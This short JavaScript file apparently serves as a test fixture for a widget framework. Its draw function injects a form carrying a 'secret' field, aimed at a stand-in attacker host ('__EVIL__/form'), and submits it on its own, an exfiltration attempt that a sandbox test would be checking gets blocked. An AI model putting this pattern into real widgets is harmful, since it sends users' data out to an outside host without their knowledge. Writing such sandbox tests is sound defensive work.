vitrine.defineWidget({
  async draw(root) {
    root.innerHTML = '<form action="__EVIL__/form" method="post"><input name="a" value="secret"></form>';
    root.querySelector('form').submit();
    root.querySelector('form').requestSubmit?.();
    return { summary: 'drawn' };
  },
});
